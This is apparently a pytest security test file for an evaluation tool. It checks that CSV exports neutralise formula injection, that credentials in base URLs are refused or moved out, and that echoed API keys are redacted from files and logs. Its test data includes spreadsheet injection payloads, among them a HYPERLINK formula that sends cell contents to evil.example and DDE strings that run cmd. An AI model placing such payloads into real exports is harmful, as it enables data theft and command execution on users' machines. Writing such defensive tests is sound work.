"""Security cases: CSV formula injection in every CSV written, credentials in a base URL, a server that echoes the
key. Each asserts the exact outcome, and that the secret is in no file (store bytes, exports, logs)."""

from __future__ import annotations

import base64
import csv
import io
import logging
import re

import pandas as pd
import pytest

from evalcore.csvsafe import neutralise, rows_to_csv, safe_cell, to_csv_safe
from evalcore.judge.client import Endpoint, EndpointUnusable
from evalcore.judge.redact import MASK, CredentialsInUrl, redact, split_credentials
from evalcore.store import Store
from evalcore.testing.loopback import Fault, serve

from _judging import CAPS, CRITERIA, KEY_ENV, ROOT, SECRET, OneShot, dataset, endpoint, files_bytes, integrity_ok
from tests import judge_calls

# ------------------------------------------------------------------------------------------ 1. CSV injection
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde-cmd": "=cmd|' /C calc'!A0",
    "plus-sum": "+SUM(1,2)",
    "minus-formula": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1,2)",
    "leading-tab": "\t=1+1",
    "leading-cr": "\r=1+1",
}
HARMLESS = {
    "negative-number-text": "-0.5",
    "plus-number-text": "+3",
    "exponent-text": "-1e-3",
    "plain-text": "Coherence",
    "empty": "",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_formula_cells_are_quoted(name):
    text = HOSTILE[name]
    assert safe_cell(text) == "'" + text
    frame = pd.DataFrame({"system": [text], "score": [4.5]})
    back = pd.read_csv(io.StringIO(to_csv_safe(frame)), keep_default_na=False)
    assert back.loc[0, "system"] == "'" + text and len(back) == 1  # one row: a CR inside a cell is quoted
    assert back.loc[0, "score"] == 4.5  # numbers stay numbers


@pytest.mark.parametrize("name", list(HARMLESS))
def test_numbers_and_plain_text_stay_as_they_are(name):
    assert safe_cell(HARMLESS[name]) == HARMLESS[name]


def test_numeric_columns_and_hostile_headers():
    frame = pd.DataFrame({"=bad header": ["x"], "value": [-1.25], "n": [-3]})
    out = neutralise(frame)
    assert list(out.columns) == ["'=bad header", "value", "n"]
    assert out["value"].dtype == float and out.loc[0, "value"] == -1.25 and out.loc[0, "n"] == -3


def test_every_csv_writer_goes_through_csvsafe():
    """No module writes a CSV on its own: every ``to_csv(`` / ``csv.writer`` / ``DictWriter`` is in csvsafe."""
    offenders = []
    for folder in ("evalcore", "pages"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csvsafe.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    text = (ROOT / "app.py").read_text(encoding="utf-8")
    assert not re.search(r"\.to_csv\(|csv\.writer\(", text)
    assert offenders == []


def test_cli_export_csv_neutralises_hostile_names(tmp_path, monkeypatch):
    """Item and system names from an upload reach `export --format csv` quoted; scores stay numeric."""
    from evalcore.cli import main

    monkeypatch.setenv(KEY_ENV, SECRET)
    db = tmp_path / "judge.db"
    store = Store(db)
    ds = dataset(3, dataset_id="hostile", system="=cmd|' /C calc'!A0", item_prefix="+SUM(1,2)")
    store.save_dataset(ds)
    with serve() as srv:
        run = judge_calls.score_dataset(ds, method=OneShot(), criteria_by_dim=CRITERIA, endpoint=endpoint(srv),
                                   store=store, capabilities=CAPS)
    out = tmp_path / "export.csv"
    assert main(["export", "--run", run.run_id, "--format", "csv", "--out", str(out), "--db", str(db)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == 3
    for r in rows:
        assert r["system_id"] == "'=cmd|' /C calc'!A0"
        assert r["item_id"].startswith("'+SUM(1,2)") and r["doc_id"].startswith("'+SUM(1,2)")
        assert 1 <= float(r["score"]) <= 5
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())


def test_report_csv_links_are_neutralised():
    from evalcore.views.html_report import _csv_link

    link = _csv_link(pd.DataFrame({"system": ["@SUM(1,2)"], "r": [0.5]}), "table")
    data = base64.b64decode(re.search(r"base64,([^\"]+)", link).group(1)).decode()
    assert data.splitlines() == ["system,r", "\"'@SUM(1,2)\",0.5"]


def test_rows_to_csv_quotes_dict_rows():
    text = rows_to_csv(["name", "score"], [{"name": "=1+1", "score": -2.0}, {"name": "ok", "score": None}])
    assert text.splitlines() == ["name,score", "'=1+1,-2.0", "ok,"]


# ------------------------------------------------------------------------------------ 2. credentials in a URL
@pytest.mark.parametrize("url,clean,secret", [
    ("http://alice:s3cret@host:8000/v1", "http://host:8000/v1", "s3cret"),
    ("https://sk-abc123@api.example.com/v1", "https://api.example.com/v1", "sk-abc123"),
    ("http://u:p%40ss@[::1]:8080/v1?x=1", "http://[::1]:8080/v1?x=1", "p@ss"),
    ("http://host/v1", "http://host/v1", None),
], ids=["user-password", "key-as-user", "ipv6-escaped", "none"])
def test_split_credentials(url, clean, secret):
    assert split_credentials(url) == (clean, secret)


def test_endpoint_refuses_credentials_without_repeating_them():
    with pytest.raises(CredentialsInUrl) as ei:
        Endpoint("http://alice:s3cret@host/v1", "m")
    assert "s3cret" not in str(ei.value) and "http://host/v1" in str(ei.value)


def test_cli_refuses_credentials_in_base_url(tmp_path, capsys, monkeypatch):
    from evalcore.cli import main

    monkeypatch.setenv("OPENAI_API_KEY", "x")
    code = main(["score", "--dataset", "summeval", "--dimension", "coherence", "--method", "geval", "--model", "m",
                 "--limit", "1", "--quiet", "--db", str(tmp_path / "cli.db"),
                 "--base-url", "http://alice:s3cret@127.0.0.1:9/v1"])
    out = capsys.readouterr()
    assert code == 2
    lines = out.err.strip().splitlines()
    assert len(lines) == 1 and "carries credentials" in lines[0] and "Traceback" not in out.err
    assert "s3cret" not in out.err + out.out
    assert b"s3cret" not in files_bytes(tmp_path)


def test_score_page_ignores_a_links_endpoint(tmp_path, monkeypatch):
    """A link naming an endpoint and model (/score?base_url=http://ATTACKER/v1&model=...) chooses nothing: the fields
    keep this session's own values (the preset's URL), the parameters leave the URL, and with the server's key set
    the page says where requests would go before anything is sent."""
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("EVALCORE_DB", str(tmp_path / "app.db"))
    monkeypatch.setenv("EVALCORE_RESAMPLES", "10")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary-0123456789")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.query_params.update({"base_url": "http://alice:s3cret@127.0.0.1:9/v1", "model": "loop-model",
                            "endpoint": "vllm", "limit": "2"})
    at.switch_page("pages/score.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.text_input(key="base_url").value == ""
    assert at.text_input(key="model").value == ""
    assert at.selectbox(key="endpoint").value == "openai"
    assert at.text_input(key="api_key").value == ""
    for name in ("base_url", "model", "endpoint"):
        assert name not in at.query_params
    assert at.button(key="start_scoring").disabled  # no model named: nothing can start
    assert b"s3cret" not in files_bytes(tmp_path)


def test_score_page_moves_typed_credentials_out_of_the_field(tmp_path, monkeypatch):
    """A base URL typed as http://alice:s3cret@host/v1: the field keeps the URL without them, the key field gets the
    secret (session memory only), the endpoint is usable (the estimate shows), nothing is stored."""
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("EVALCORE_DB", str(tmp_path / "app.db"))
    monkeypatch.setenv("EVALCORE_RESAMPLES", "10")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.query_params.update({"limit": "2"})
    at.switch_page("pages/score.py").run()
    at.text_input(key="base_url").input("http://alice:s3cret@127.0.0.1:9/v1").run()
    at.text_input(key="model").input("loop-model").run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.text_input(key="base_url").value == "http://127.0.0.1:9/v1"
    assert at.text_input(key="api_key").value == "s3cret"
    assert any("taken out of the URL" in i.value for i in at.info)
    assert any("Requests go to `http://127.0.0.1:9/v1` (with the key you typed" in c.value.replace("\\", "")
               for c in at.caption)
    assert {m.label: m.value for m in at.metric}["Calls to send"] == "2"  # the endpoint was built from the clean URL
    at.checkbox(key="confirm_spend").check().run()  # a paid provider's model of unknown price: confirmed first
    assert not at.button(key="start_scoring").disabled
    assert b"s3cret" not in files_bytes(tmp_path)


# ------------------------------------------------------------------------------------ 3. a server echoing the key
@pytest.mark.parametrize("text,expected", [
    ("HTTP 401: Invalid key: Bearer sk-live-abcdef123456", f"HTTP 401: Invalid key: Bearer {MASK}"),
    ("Incorrect API key provided: sk-proj-abc***xyz9.", f"Incorrect API key provided: {MASK}."),
    ("proxy http://alice:pw@host/v1 refused", f"proxy http://{MASK}@host/v1 refused"),
    ("key s3cr3tvalue echoed", f"key {MASK} echoed"),
], ids=["bearer", "sk-key", "url-userinfo", "known-key"])
def test_redact(text, expected):
    assert redact(text, ["s3cr3tvalue"]) == expected


def test_echoed_key_is_in_no_file_log_or_export(tmp_path, monkeypatch, caplog):
    from evalcore.cli import main

    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv(KEY_ENV, SECRET)
    db = tmp_path / "judge.db"
    store = Store(db)
    ds = dataset(6, dataset_id="echo")
    store.save_dataset(ds)
    with serve(faults=[Fault("key_echo", match="summary d1 of"), Fault("key_echo", match="summary d4 of")]) as srv:
        run = judge_calls.score_dataset(ds, method=OneShot(), criteria_by_dim=CRITERIA, endpoint=endpoint(srv),
                                   store=store, capabilities=CAPS)
    reasons = run.judgments.set_index("item_id")["reason"]
    assert reasons["d1"] == reasons["d4"] == f"HTTP 401: Invalid key: Bearer {MASK}"
    for fmt in ("csv", "jsonl"):
        assert main(["export", "--run", run.run_id, "--format", fmt, "--out", str(tmp_path / f"x.{fmt}"),
                     "--db", str(db)]) == 0
    (tmp_path / "log.txt").write_text(caplog.text)
    store.close()
    blob = files_bytes(tmp_path)
    assert SECRET.encode() not in blob and f"Bearer {MASK}".encode() in blob
    assert integrity_ok(db)


def test_cli_error_line_redacts_an_echoed_key(tmp_path, capsys, monkeypatch):
    """Every request answered 401 with the key echoed: the run stops, one line, the key masked."""
    from evalcore.cli import main

    monkeypatch.setenv(KEY_ENV, SECRET)
    with serve(faults=[Fault("key_echo", fraction=1.0)]) as srv:
        code = main(["score", "--dataset", "summeval", "--dimension", "coherence", "--method", "geval", "--model",
                     "m", "--limit", "2", "--quiet", "--db", str(tmp_path / "cli.db"), "--base-url", srv.base_url,
                     "--api-key-env", KEY_ENV])
    out = capsys.readouterr()
    assert code == 2 and "Traceback" not in out.err
    assert out.err.strip().count("\n") == 0 and f"Bearer {MASK}" in out.err
    assert SECRET not in out.err + out.out and SECRET.encode() not in files_bytes(tmp_path)


def test_a_run_that_stops_stores_no_key(tmp_path, monkeypatch):
    monkeypatch.setenv(KEY_ENV, SECRET)
    store = Store(tmp_path / "judge.db")
    with serve(faults=[Fault("key_echo", fraction=1.0)]) as srv:
        with pytest.raises(EndpointUnusable) as ei:
            judge_calls.score_dataset(dataset(10), method=OneShot(), criteria_by_dim=CRITERIA, endpoint=endpoint(srv),
                                 store=store, capabilities=CAPS, concurrency=1)
    assert SECRET not in str(ei.value)
    store.close()
    assert SECRET.encode() not in files_bytes(tmp_path)


def test_export_redacts_a_key_stored_before_redaction(tmp_path):
    """A store written by an older version holds an echoed key in a reason: the export still leaves it out."""
    from evalcore.judge.cli import export_rows

    st = Store(tmp_path / "old.db")
    st.create_run(run_id="r", dataset_id="tiny", method="oneshot", model="m", status="done")
    st.save_judgment("r", {"item_id": "d0", "dimension": "coherence", "status": "failed",
                           "reason": f"HTTP 401: Invalid key: Bearer {SECRET}"})
    _, rows = export_rows(st.load_run("r"))
    assert rows[0]["reason"] == f"HTTP 401: Invalid key: Bearer {MASK}"
